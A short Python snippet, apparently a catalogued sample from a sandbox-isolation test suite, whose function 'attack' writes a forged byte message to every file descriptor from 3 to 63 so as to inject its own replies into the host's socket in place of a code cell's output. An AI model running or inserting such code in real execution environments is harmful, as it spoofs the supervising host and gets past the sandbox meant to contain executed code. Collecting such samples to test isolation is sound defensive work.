# It writes answers of its own into its socket, in the place of its cell's.
# after: the host
# source: own
# open behind kernel: the socket is its own, and only the language's wall stands between; the host ends it for it
import os
def attack(**_):
    for number in range(3, 64):
        try:
            os.write(number, b"\x00\x00\x00\x01\xc0")
        except OSError:
            continue
